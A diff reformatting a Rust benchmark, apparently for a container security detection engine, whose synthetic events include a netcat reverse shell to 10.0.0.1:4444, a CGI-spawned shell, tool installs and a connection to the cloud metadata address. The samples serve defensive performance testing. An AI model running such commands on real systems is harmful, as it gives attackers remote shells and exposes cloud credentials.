@@ -25,25 +25,63 @@ fn events() -> Vec<Event> {
             container_id: Some("c".repeat(64)),
             ancestors: parents
                 .iter()
-                .map(|p| Ancestor { pid: 1, name: p.to_string(), exe: Some(format!("/usr/sbin/{p}")) })
+                .map(|p| Ancestor {
+                    pid: 1,
+                    name: p.to_string(),
+                    exe: Some(format!("/usr/sbin/{p}")),
+                })
                 .collect(),
             complete: true,
             ..ExecEvent::default()
         }))
     };
     vec![
-        exec("ls", &["-l", "/"], &["sh", "containerd-shim", "systemd"], 0, false),
-        exec("sh", &["-c", "id"], &["x.cgi", "httpd", "httpd", "containerd-shim", "systemd"], 0, false),
-        exec("apt-get", &["install", "-y", "curl", "wget", "netcat-openbsd"], &["bash", "runc"], 34816, false),
+        exec(
+            "ls",
+            &["-l", "/"],
+            &["sh", "containerd-shim", "systemd"],
+            0,
+            false,
+        ),
+        exec(
+            "sh",
+            &["-c", "id"],
+            &["x.cgi", "httpd", "httpd", "containerd-shim", "systemd"],
+            0,
+            false,
+        ),
+        exec(
+            "apt-get",
+            &["install", "-y", "curl", "wget", "netcat-openbsd"],
+            &["bash", "runc"],
+            34816,
+            false,
+        ),
         exec("bash", &["-i"], &["bash", "containerd-shim"], 0, true),
-        exec("python3", &["-m", "pip", "install", "requests", "flask", "gunicorn"], &["sh", "node", "containerd-shim"], 0, false),
-        exec("nc", &["10.0.0.1", "4444", "-e", "/bin/sh"], &["sh"; 8], 0, false),
+        exec(
+            "python3",
+            &["-m", "pip", "install", "requests", "flask", "gunicorn"],
+            &["sh", "node", "containerd-shim"],
+            0,
+            false,
+        ),
+        exec(
+            "nc",
+            &["10.0.0.1", "4444", "-e", "/bin/sh"],
+            &["sh"; 8],
+            0,
+            false,
+        ),
         Event::Conn(ConnEvent {
             time: None,
             phase: ConnPhase::New,
             proto: "tcp",
-            src: "172.17.0.2".parse().unwrap_or(std::net::Ipv4Addr::LOCALHOST.into()),
-            dst: "169.254.169.254".parse().unwrap_or(std::net::Ipv4Addr::LOCALHOST.into()),
+            src: "172.17.0.2"
+                .parse()
+                .unwrap_or(std::net::Ipv4Addr::LOCALHOST.into()),
+            dst: "169.254.169.254"
+                .parse()
+                .unwrap_or(std::net::Ipv4Addr::LOCALHOST.into()),
             src_port: 40000,
             dst_port: 80,
             bytes_orig: None,
@@ -58,7 +96,11 @@ fn bench(c: &mut Criterion) {
     let cid = "c".repeat(64);
     let subjects: Vec<Subject<'_>> = evs
         .iter()
-        .map(|e| Subject { event: e, container: None, container_id: Some(&cid) })
+        .map(|e| Subject {
+            event: e,
+            container: None,
+            container_id: Some(&cid),
+        })
         .collect();
     // p99 over 200,000 evaluations of the mixed stream.
     let mut ns: Vec<u128> = Vec::with_capacity(200_000);
